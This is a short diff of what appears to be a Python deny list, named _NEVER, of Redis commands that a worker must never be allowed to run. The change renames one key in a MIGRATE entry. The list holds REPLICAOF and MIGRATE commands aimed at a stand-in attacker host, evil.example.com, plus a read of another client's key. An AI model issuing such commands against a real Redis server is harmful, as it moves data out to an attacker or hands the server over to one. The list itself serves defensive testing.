@@ -80,7 +80,7 @@ _NEVER: tuple[tuple[Any, ...], ...] = (
     ("REPLICAOF", "evil.example.com", "6379"),
     ("MODULE", "LIST"),
     ("FUNCTION", "LIST"),
-    ("MIGRATE", "evil.example.com", "6379", "neonet.jobs", "0", "10"),
+    ("MIGRATE", "evil.example.com", "6379", "neonet.jobs.1", "0", "10"),
     ("GET", "somebody-elses-key"),
 )
 _WORKER_NEVER: tuple[tuple[Any, ...], ...] = (
